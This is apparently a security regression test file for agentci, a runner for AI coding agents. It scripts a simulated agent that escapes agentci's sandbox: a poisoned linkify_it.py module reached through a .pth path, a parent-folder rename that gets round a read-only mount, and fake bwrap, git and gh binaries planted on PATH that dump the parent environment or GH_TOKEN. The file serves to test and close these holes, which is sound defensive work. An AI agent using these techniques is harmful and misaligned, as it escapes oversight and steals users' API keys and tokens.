"""Runtime wave 2: an outside tester's attacks on agentci's own Python runtime (each test fails
while the hole is open).

agentci's outputs writer (agentci/reports/child.py, a fork of agentci's process, every secret of
its environment inherited) imports ``markdown_it``, which tries ``import linkify_it`` — an
optional dependency agentci does not install. Python looks for it along the whole ``sys.path``,
and that path holds more than agentci's installation: every folder a ``.pth`` file names. The
project's own editable install (``uv add --dev agentci-runner`` installs the project itself in
editable mode into ``.venv``; ``pip install -e .`` in CI does the same into the job's
environment) puts a ``.pth`` naming ``src/`` (or the checkout's root) into site-packages.
agentci/policy/runtime.py protects site-packages and the ``.pth`` file, but not the folder the
``.pth`` points to: the agent writes ``src/linkify_it.py`` with ``write_file`` (auto_edit, the
default) and it runs on the host with GEMINI_API_KEY and GITHUB_TOKEN.
"""

from __future__ import annotations

import os
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest
from attack_case import CANARIES, make_attack, tool
from test_attack_wave3b import _workspace_venv

#: The planted optional module: the secrets into the escape folder, then "not installed".
PAYLOAD = """\
import os
with open({loot!r}, "w") as f:
    f.write(os.environ.get("GEMINI_API_KEY", "") + "\\n" + os.environ.get("GITHUB_TOKEN", ""))
raise ModuleNotFoundError("No module named 'linkify_it'", name="linkify_it")
"""

PROJECT = {
    ".gitignore": ".venv/\n",
    "pyproject.toml": '[project]\nname = "victim"\nversion = "0"\n',
    "src/victim/__init__.py": "x = 1\n",
}


def _attack(tmp_path: Path, folder: str):
    loot = tmp_path / "escape" / "loot"
    target = f"{folder}/linkify_it.py" if folder else "linkify_it.py"
    case = make_attack(
        tmp_path,
        [
            tool("write_file", file_path=target, content=PAYLOAD.format(loot=str(loot))),
            {"text": "done"},
        ],
        files=PROJECT,
    )
    return case, loot


def _run(entry: list[str], case, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*entry, "run", str(case.recipe), "--out", str(case.out)],
        cwd=cwd, env={**os.environ, **CANARIES}, capture_output=True, text=True, timeout=120,
        stdin=subprocess.DEVNULL,
    )  # fmt: skip


@pytest.mark.parametrize("folder", ["src", ""])
def test_module_planted_where_the_projects_editable_pth_points_runs_on_host(
    tmp_path: Path, folder: str
) -> None:
    """Setup (b): ``uv add --dev agentci-runner`` — agentci in ``.venv`` inside the workspace,
    the project installed editable there (``_victim.pth`` naming ``src/``, or the root for a
    flat layout), started as ``.venv/bin/agentci``."""
    case, loot = _attack(tmp_path, folder)
    entry = _workspace_venv(case.repo)
    site = next((case.repo / ".venv" / "lib").glob("python3*/site-packages"))
    (site / "_victim.pth").write_text(f"{case.repo / folder if folder else case.repo}\n")
    done = _run([str(entry)], case, case.repo)
    got = loot.read_text() if loot.exists() else ""
    assert not [v for v in CANARIES.values() if v in got], (
        f"the agent's {folder or '.'}/linkify_it.py ran in agentci's outputs writer on the host "
        f"and read its secrets: {got!r}\n{done.stderr[-2000:]}"
    )
    assert not loot.exists()


def test_module_planted_where_an_outside_envs_editable_pth_points_runs_on_host(
    tmp_path: Path,
) -> None:
    """Setup (a): CI installs the project editable (``pip install -e .``) and agentci into the
    same environment outside the workspace, then runs ``python -m agentci`` in the checkout.
    ``__main__.py`` drops the working directory from ``sys.path``, but the ``.pth`` puts the
    checkout's ``src/`` back, and nothing protects it."""
    case, loot = _attack(tmp_path, "src")
    venv = tmp_path / "env"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    site = next((venv / "lib").glob("python3*/site-packages"))
    here = Path(__file__).resolve().parents[2]
    (site / "agentci-host.pth").write_text(f"{sysconfig.get_path('purelib')}\n{here}\n")
    (site / "_victim.pth").write_text(f"{case.repo / 'src'}\n")
    done = _run([str(venv / "bin" / "python"), "-m", "agentci"], case, case.repo)
    got = loot.read_text() if loot.exists() else ""
    assert not [v for v in CANARIES.values() if v in got], (
        f"the agent's src/linkify_it.py ran in agentci's outputs writer on the host and read "
        f"its secrets: {got!r}\n{done.stderr[-2000:]}"
    )
    assert not loot.exists()


# --- A protected folder's *parent* is not protected. agentci installed in a virtualenv one
# level down (a monorepo's ``backend/.venv``, started as ``backend/.venv/bin/agentci`` from the
# checkout's root): the sandbox mounts ``backend/.venv`` read-only, but code running in the
# sandbox (the recipe's verify command, running the agent's tests or scripts) can rename
# ``backend`` — a mount below a renamed folder moves with it — and make a new
# ``backend/.venv/lib/python3.X/site-packages``. agentci's ``sys.path`` holds that folder by
# name; the outputs writer's later ``import linkify_it`` (via markdown_it) finds the agent's.
# Now every folder above a protected path is a mount point in the sandbox: the rename fails.
# (tests/security/test_moved_runtime.py covers a move made outside the sandbox.)

RENAME = """\
#!/bin/sh
set -e
SITE=backend/.venv/lib/python{ver}/site-packages
mv backend backend.old
mkdir -p "$SITE"
cp payload.txt "$SITE/linkify_it.py"
exit 0
"""


def test_renaming_the_parent_of_agentcis_workspace_venv_plants_a_module_run_on_host(
    tmp_path: Path,
) -> None:
    loot = tmp_path / "escape" / "loot"
    ver = f"{sys.version_info.major}.{sys.version_info.minor}"
    case = make_attack(
        tmp_path,
        [
            tool("write_file", file_path="payload.txt", content=PAYLOAD.format(loot=str(loot))),
            tool("write_file", file_path="check.sh", content=RENAME.format(ver=ver)),
            {"text": "done"},
        ],
        {"verify": {"command": "sh check.sh", "attempts": 1}},
        files={".gitignore": ".venv/\n", "check.sh": "exit 1\n", "backend/app.py": "x = 1\n"},
    )
    entry = _workspace_venv(case.repo / "backend")
    done = _run([str(entry)], case, case.repo)
    got = loot.read_text() if loot.exists() else ""
    assert not [v for v in CANARIES.values() if v in got], (
        "the agent renamed backend/ in the sandbox and its backend/.venv/…/linkify_it.py ran in "
        f"agentci's outputs writer on the host: {got!r}\n{done.stdout[-3000:]}{done.stderr[-2000:]}"
    )
    assert not loot.exists()
    assert not (case.repo / "backend.old").exists(), "the rename went through"
    assert done.returncode == 1, done.stdout[-3000:] + done.stderr[-2000:]


# --- bubblewrap is looked up on PATH again for every task (agentci/policy/sandbox.py
# make_sandbox: ``exe = shutil.which("bwrap")``; only the probe ``bwrap_problem`` is cached).
# docs/policy.md promises that a program the agent writes into a PATH folder inside the
# workspace (``node_modules/.bin``, a ``tools/bin``) never runs on the host — true for git and
# ripgrep, chosen once before the agent acts, not for bwrap. In a recipe with several tasks
# sharing the workspace (``isolation: none``, the default), code of the first task running in
# the sandbox (its verify command running the agent's script) makes ``tools/bin/bwrap``; the
# second task's sandbox is that program, run on the host as agentci's child, where
# ``/proc/$PPID/environ`` is agentci's environment.

FAKE_BWRAP = """\
#!/bin/sh
cat /proc/$PPID/environ > {loot}
exec /usr/bin/bwrap "$@"
"""

PLANT_BWRAP = """\
#!/bin/sh
mkdir -p tools/bin
cp fake.txt tools/bin/bwrap
chmod +x tools/bin/bwrap
exit 0
"""


@pytest.mark.parametrize("entry", ["absolute", "relative"])
def test_bwrap_planted_in_a_workspace_path_folder_runs_on_host_for_the_next_task(
    tmp_path: Path, entry: str
) -> None:
    loot = tmp_path / "escape" / "loot"
    case = make_attack(
        tmp_path,
        [
            tool("write_file", file_path="fake.txt", content=FAKE_BWRAP.format(loot=str(loot))),
            tool("write_file", file_path="check.sh", content=PLANT_BWRAP),
            {"text": "done"},
        ],
        {
            "verify": {"command": "sh check.sh", "attempts": 1},
            "tasks": [{"name": "first"}, {"name": "second"}],
        },
        # ignored: verify's writes to files the patch is made of are put back after each run
        files={
            "check.sh": "exit 1\n",
            "tools/bin/fmt": "#!/bin/sh\n",
            ".gitignore": "tools/bin/git\n",
        },
    )
    folder = str(case.repo / "tools" / "bin") if entry == "absolute" else "tools/bin"
    env = {**os.environ, **CANARIES, "PATH": f"{folder}:{os.environ['PATH']}"}
    done = subprocess.run(
        [sys.executable, "-m", "agentci", "run", str(case.recipe), "--out", str(case.out)],
        cwd=case.repo, env=env, capture_output=True, text=True, timeout=120,
        stdin=subprocess.DEVNULL,
    )  # fmt: skip
    got = loot.read_text() if loot.exists() else ""
    assert not [v for v in CANARIES.values() if v in got], (
        "the agent's tools/bin/bwrap ran on the host and read agentci's environment: "
        f"{[v for v in CANARIES.values() if v in got]}\n"
        f"{done.stdout[-3000:]}{done.stderr[-2000:]}"
    )
    assert not loot.exists()


# --- The Action's delivery step runs ``gh`` found on the job's PATH
# (agentci/delivery/gh.py: ``shutil.which("gh")``), with the write token in GH_TOKEN. A job
# that puts the project's virtualenv on PATH (astral-sh/setup-uv's ``activate-environment``,
# ``echo "$PWD/.venv/bin" >> $GITHUB_PATH``) hands that lookup a folder of the workspace: the
# Action's agentci lives in $RUNNER_TEMP, so the workspace's ``.venv`` is not agentci's and not
# protected. The agent's fix (``calc.py``, imported by the
# tests verify runs in the sandbox) writes ``.venv/bin/gh``; the
# delivery step runs it on the host with the token.

PLANT_GH = """\
import os
os.makedirs(".venv/bin", exist_ok=True)
with open(".venv/bin/{name}", "w") as f:
    f.write('#!/bin/sh\\nprintf %s "$GH_TOKEN" >> {loot}\\nexec {real} "$@"\\n')
os.chmod(".venv/bin/{name}", 0o755)


def add(a, b):
    return a + b
"""


@pytest.mark.parametrize(
    ("name", "inputs"), [("gh", {"comment": "true"}), ("git", {"create-pr": "true"})]
)
def test_program_planted_in_a_workspace_path_folder_runs_with_the_delivery_token(
    tmp_path: Path, name: str, inputs: dict[str, str]
) -> None:
    """``gh`` (comment, create-pr) and ``git`` (the push of create-pr, chosen afresh by the
    delivery process: agentci/gitenv.py git_program takes PATH's absolute folders)."""
    import json

    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
    from test_action import _bin_dir
    from test_action_delivery import PR_EVENT, TOKEN, Delivery

    loot = tmp_path / "escape" / "loot"
    loot.parent.mkdir()
    with _bin_dir() as bin_dir:
        on_pr = Delivery(tmp_path, bin_dir, "pull_request", PR_EVENT)
        ws = on_pr.job.workspace
        (ws / ".venv" / "bin").mkdir(parents=True)  # the job's `uv sync`
        real = bin_dir / "job-bin" / "gh" if name == "gh" else Path("/usr/bin/git")
        payload = PLANT_GH.format(name=name, loot=str(loot), real=str(real))
        replies = [
            {"calls": [{"name": "write_file", "args": {"file_path": "calc.py", "content": payload}}]},
            {"text": "Fixed add."},
        ]  # fmt: skip
        on_pr.job.path = f"{ws / '.venv' / 'bin'}:{on_pr.job.path}"
        subprocess.run(["git", "checkout", "-q", "--", "."], cwd=ws, check=True)
        run = on_pr.job.run(json.dumps(replies), inputs={"github-token": TOKEN, **inputs},
                            extra_env=on_pr.env)  # fmt: skip
        got = loot.read_text() if loot.exists() else ""
        assert TOKEN not in got, (
            f"the agent's .venv/bin/{name} ran in the delivery step with the write token\n{run.log[-3000:]}"
        )
        assert not loot.exists()


# --- "git is chosen before the agent acts" holds for one process only. agentci leaves the
# agent's work in the workspace; the next agentci started there (``--resume``, a second use of
# the Action in the same job, ``agentci pre-commit`` on the next commit) chooses its git from
# PATH's absolute folders again (agentci/gitenv.py git_program), and a workspace folder on PATH
# now holds the earlier agent's ``git``. It runs on the host for agentci's first snapshot, as
# agentci's child: ``/proc/$PPID/environ`` is agentci's environment.

FAKE_GIT = """\
#!/bin/sh
cat /proc/$PPID/environ >> {loot}
exec /usr/bin/git "$@"
"""

PLANT_GIT = """\
#!/bin/sh
mkdir -p tools/bin
cp fake.txt tools/bin/git
chmod +x tools/bin/git
exit 0
"""


def test_git_planted_in_a_workspace_path_folder_runs_on_host_in_the_next_agentci_run(
    tmp_path: Path,
) -> None:
    loot = tmp_path / "escape" / "loot"
    case = make_attack(
        tmp_path,
        [
            tool("write_file", file_path="fake.txt", content=FAKE_GIT.format(loot=str(loot))),
            tool("write_file", file_path="check.sh", content=PLANT_GIT),
            {"text": "done"},
        ],
        {"verify": {"command": "sh check.sh", "attempts": 1}},
        # ignored: verify's writes to files the patch is made of are put back after each run
        files={
            "check.sh": "exit 1\n",
            "tools/bin/fmt": "#!/bin/sh\n",
            ".gitignore": "tools/bin/git\n",
        },
        scripts={"script2.yaml": [{"text": "nothing to do"}]},
    )
    env = {**os.environ, **CANARIES, "PATH": f"{case.repo / 'tools' / 'bin'}:{os.environ['PATH']}"}

    def run(out: Path) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "agentci", "run", str(case.recipe), "--out", str(out)],
            cwd=case.repo, env=env, capture_output=True, text=True, timeout=120,
            stdin=subprocess.DEVNULL,
        )  # fmt: skip

    first = run(case.out)
    assert (case.repo / "tools" / "bin" / "git").exists(), first.stdout + first.stderr
    assert not loot.exists(), "the planted git ran in the run that planted it"
    case.recipe.write_text(case.recipe.read_text().replace("script.yaml", "script2.yaml"))
    second = run(tmp_path / "out2")
    got = loot.read_text() if loot.exists() else ""
    assert not [v for v in CANARIES.values() if v in got], (
        "the earlier agent's tools/bin/git ran on the host as the next run's git: "
        f"{[v for v in CANARIES.values() if v in got]}\n{second.stdout[-2000:]}{second.stderr[-2000:]}"
    )
    assert not loot.exists()
